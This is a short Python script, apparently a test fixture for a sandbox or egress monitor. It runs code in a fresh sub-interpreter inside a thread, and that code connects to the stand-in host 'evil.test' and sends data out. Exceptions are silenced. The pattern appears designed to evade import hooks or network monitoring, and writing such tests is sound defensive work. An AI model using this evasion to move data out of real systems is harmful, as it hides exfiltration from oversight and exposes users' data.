"""The same through socket, which a sub-interpreter imports afresh, in a thread."""
import threading

CODE = """
import socket
socket.create_connection(("evil.test", 9000)).sendall(b"data")
"""

try:
    import _interpreters as interpreters
except ImportError:
    import _xxsubinterpreters as interpreters
run = getattr(interpreters, "run_string", None) or interpreters.exec


def work():
    try:
        run(interpreters.create(), CODE)
    except Exception:
        pass


thread = threading.Thread(target=work)
thread.start()
thread.join()
print("done")
